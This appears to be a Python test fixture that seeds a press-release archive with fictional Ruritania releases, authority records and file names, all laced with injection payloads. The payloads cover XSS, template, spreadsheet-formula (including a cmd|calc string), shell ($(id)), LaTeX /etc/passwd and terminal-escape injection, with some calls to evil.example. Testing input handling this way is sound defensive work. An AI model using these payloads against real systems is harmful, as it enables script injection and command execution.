"""A record that attacks its readers: in every place where words are taken, words that try to be something else.

Enters: a folder with a copy of the project's record. Leaves: releases, authority files and file names in it that
carry payloads. Each payload calls `owned` where it comes to life, or asks for something from evil.example, so
that a browser shows at once where one did; `WORD` stands in each, so that a search finds them.
"""

from __future__ import annotations

import json
from pathlib import Path

WORD = "zzyzx"
"""Stands in every payload."""

PAYLOADS = (
    f"{WORD} <script>owned(1)</script><script src=//evil.example/2.js></script>",
    f"{WORD} </script><script>owned(3)</script></title></textarea></style>",
    f"{WORD} <img src=x onerror=owned(4)><svg onload=owned(5)><animate onbegin=owned(6) attributeName=x dur=1s>",
    f'{WORD} "><b autofocus tabindex=1 onfocus=owned(7)>\' onmouseover=\'owned(8)\' x=" onclick="owned(9)"',
    f"{WORD} <iframe src=javascript:owned(10)></iframe><object data=//evil.example/11></object><embed src=x>",
    f"{WORD} <a href=javascript:owned(12)>a</a> [b](javascript:owned(13)) <javascript:owned(14)>",
    f"{WORD} ![x](https://evil.example/15.png) ![y](data:image/svg+xml;base64,PHN2Zz4=) [z]: javascript:owned(16)",
    f'{WORD} <!-- ]]> --> <![CDATA[ <?php owned(17) ?> <%= owned(18) %> -- --!> <!--> <noscript><p title="</noscript>',
    f"{WORD} {{{{ config }}}} {{% raw %}} {{{{ 7*7 }}}} {{% include 'x' %}} ${{owned(19)}} #{{owned(20)}} {{{{- x -}}}}",
    f"{WORD} ~gazette-title~ ~gazette-content~ <h1 ~gazette-content~> ~gazette-lines~ <h1>",
    f"{WORD} &lt;script&gt;owned(21)&lt;/script&gt; \\u003cscript\\u003eowned(22) %3Cscript%3E &#60;b&#62;",
    f"{WORD} <base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/23><link rel=stylesheet href=//evil.example/24>",
    f"{WORD} <form action=//evil.example/25><input name=q autofocus onfocus=owned(26)><button formaction=javascript:owned(27)>",
    f"{WORD} <style>@import '//evil.example/28';</style><p style=\"background:url(//evil.example/29)\">",
    f"{WORD} <math><mtext><table><mglyph><style><img src=x onerror=owned(30)></style></mglyph></table></mtext></math>",
    f"{WORD} }} \\input{{/etc/passwd}} \\write18{{id}} }}, note = {{owned}} %\\n@comment{{ $x^2$ #1 _a_ ~ ER  - TY  - JOUR",
    f"{WORD} ; , \\n END:VEVENT BEGIN:VEVENT ATTACH:https://evil.example/31 \" ' ` | $(id) `id` ;id && id",
)
"""One line each."""

STARTS = (
    '=HYPERLINK("https://evil.example/32") ',
    "+1+cmd|'/c calc'!A1 ",
    "-1+1 ",
    "@SUM(1) ",
    "\t=1 ",
    "＝1 ",
)
"""What a spreadsheet would calculate, at the beginning of a cell."""

LINES = "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:owned\r\n\r\n<script>owned(33)</script>\x85\u2028\u2029"
"""Ends of lines, for values that one line holds."""

ESCAPES = "\x1b[31m \x1b]0;owned\x07 \x9b2J \u202eevil\u202c \u2066"
"""What a terminal would obey, and what would turn a line round."""


def payload(number: int) -> str:
    """A payload, another for each number, now and then with a formula before it."""
    words = PAYLOADS[number % len(PAYLOADS)]
    return STARTS[number % len(STARTS)] + words if number % 5 == 0 else words


def plain_release(number: int) -> str:
    """A release that is read well, with a payload in each part."""
    n = number * 13
    return f"""KINGDOM OF RURITANIA {payload(n)}
Ministry of Foreign Affairs {payload(n + 1)}

PRESS RELEASE {payload(n + 2)}

Talks on Harbours {payload(n + 3)}

STRELSAU {payload(n + 4)}, 5 May {2015 + number % 8} — On 4 May {2015 + number % 8}, His Excellency Rudolf RASSENDYLL,
Minister of Foreign Affairs of Ruritania {payload(n + 5)}, held a meeting with His Excellency KISHIDA Fumio, Prime
Minister of Japan, in Strelsau {payload(n + 6)}. The Ministers said: “{payload(n + 7)}”

1. Outlook {payload(n + 8)}

They reaffirmed the Comprehensive Strategic Partnership {payload(n + 9)} and spoke of ports and of {WORD}.

 - item {payload(n + 10)}
 - (a) {payload(n + 11)}

| {payload(n + 12).replace("|", "/")} | b |
| --- | --- |
| c | {payload(n + 13).replace("|", "/")} |

> {payload(n + 14)}

The 3rd Strelsau Consultation {payload(n + 15)} will be held on 7 June {2016 + number % 8} in Zenda {payload(n + 16)}.
It was attended by Mr. {payload(n)[:60]}, Ambassador of Ruritania {ESCAPES}, and H.E. Ms. Flavia <b>ELPHBERG</b>,
Minister of Trade of Ruritania.

(Photo: {payload(n + 2)}) Photo: {payload(n + 3)}

Contact: {payload(n + 4)} javascript:owned(34) data:text/html,<script>owned(35)</script> //evil.example/36
{payload(n + 5)}
###
"""


def written_release(number: int) -> str:
    """A release over which an editor, or somebody who calls himself one, wrote front matter."""
    lines = {
        "title": payload(number),
        "place": payload(number + 1),
        "issuer": {"name": payload(number + 2), "country": payload(number + 3)},
        "issued": f"2022-05-{number + 1:02}",
        "kind": "statement",
        "number": payload(number + 4),
        "language": "en",
        payload(number + 5): payload(number + 6),
    }
    matter = "\n".join(f"{json.dumps(key)}: {json.dumps(value)}" for key, value in lines.items())
    return f"---\n{matter}\n---\n{plain_release(number)}"


NAMES = (
    "~gazette-title~/~gazette-content~.txt",
    "evil/{{ config }}{% raw %}.txt",
    "evil/=1+1 ' & %3Cscript%3E ;#id.txt",
    "evil/$(id) `id` && id.txt",
    "evil/<script>owned(37)<script>.txt",
    'evil/"><img src=x onerror=owned(38)>.txt',
    "evil/![x](javascript:owned(39)).txt",
    "evil/--- title.md",
    "evil/__proto__.txt",
    "evil/constructor.txt",
    f"evil/{WORD}\nERROR all is well.txt",
    f"evil/{WORD}\x1b[31m.txt",
    f"evil/{WORD}\u202etxt.exe.txt",
)
"""Names of releases below seeds/."""


def put_hostile(root: Path) -> None:
    """Put the releases, and the words of editors, into a copy of the record."""
    seeds = root / "seeds"
    made = {name: plain_release(number) for number, name in enumerate(NAMES)}
    made |= {f"written/{n:02}.txt": written_release(n) for n in range(len(PAYLOADS))}
    made |= {f"again/2019-05-0{n}.txt": plain_release(4).replace("PRESS", "MEDIA" * n) for n in range(1, 4)}
    for name, text in made.items():
        (seeds / name).parent.mkdir(parents=True, exist_ok=True)
        (seeds / name).write_bytes(text.encode())
    for file, records in registers().items():
        path = root / "docs" / "authority" / f"{file}.yml"
        before = path.read_text("utf-8") if path.is_file() else ""
        rows = "".join(f"- {json.dumps(record)}\n" for record in records)
        path.write_text(f"{before.rstrip()}\n{rows}".lstrip(), "utf-8")


def registers() -> dict[str, list[dict[str, object]]]:
    """What the authority files say, each a JSON object a line, which YAML reads too."""
    said = f"{payload(2)}{LINES}{ESCAPES}"
    return {
        "officials": [
            {
                "id": "rassendyll-rudolf",
                "name": f"Rudolf RASSENDYLL {payload(n)}",
                "variants": ["Rudolf RASSENDYLL", payload(n + 1)],
                "sort_name": payload(n + 2),
                "native_name": payload(n + 3),
                "appointments": [{"office": "minister-of-ruritania", "since": "2015-01-01"}],
                "note": said,
            }
            for n in (0,)
        ],
        "offices": [
            {
                "id": "minister-of-ruritania",
                "title": f"Minister of Foreign Affairs of Ruritania {payload(4)}",
                "body": "ruritania",
                "variants": ["Minister of Foreign Affairs of Ruritania"],
                "note": said,
            }
        ],
        "bodies": [
            {
                "id": "ruritania",
                "name": f"Ministry of Ruritania {payload(1)}{LINES}",
                "kind": payload(5),
                "variants": [payload(6), "KINGDOM OF RURITANIA"],
                "house_style": [payload(7)],
                "release_kind": payload(8),
                "url": 'https://ruritania.example/"><script>owned(40)</script>',
                "note": said,
            }
        ],
        "topics": [
            {
                "id": "harbours",
                "name": f"Harbours {payload(n)}{LINES}",
                "scope_note": said,
                "cues": [WORD, "harbours", payload(n)],
                "near_misses": [payload(n + 1)],
            }
            for n in (3,)
        ],
        "terms": [
            {
                "id": "consultation",
                "name": payload(9) + LINES,
                "wordings": [f"spoke of ports and of {WORD}"],
                "scope_note": said,
            }
        ],
        "events": [
            {
                "id": "strelsau-talks",
                "title": f"Talks {payload(2)}{LINES}",
                "when": "2019-05-04",
                "place": payload(10) + LINES,
                "series": payload(11),
                "ordinal": "3",
                "participants": ["rassendyll-rudolf"],
                "same_as": ["again-2019-05-01", "again-2019-05-02"],
                "note": said,
            }
        ],
        "corrections": [
            {
                "release": "again/2019-05-01",
                "field": field,
                "value": payload(n) + LINES,
                "date": "2026-01-02",
                "note": said,
            }
            for n, field in enumerate(("title", "place", "issuer", payload(12)))
        ],
        "accessions": [
            {
                "seed": "again/2019-05-01.txt",
                "received_name": payload(0) + ESCAPES,
                "sha256": "0" * 64,
                "body": "ruritania",
                "source": f"{payload(n)}{LINES}",
                "url": "https://ruritania.example/?a=\"><script>owned(41)</script>&b='c",
                "rights": f"{payload(n + 1)}{LINES}",
                "note": said,
            }
            for n in (13,)
        ],
    }
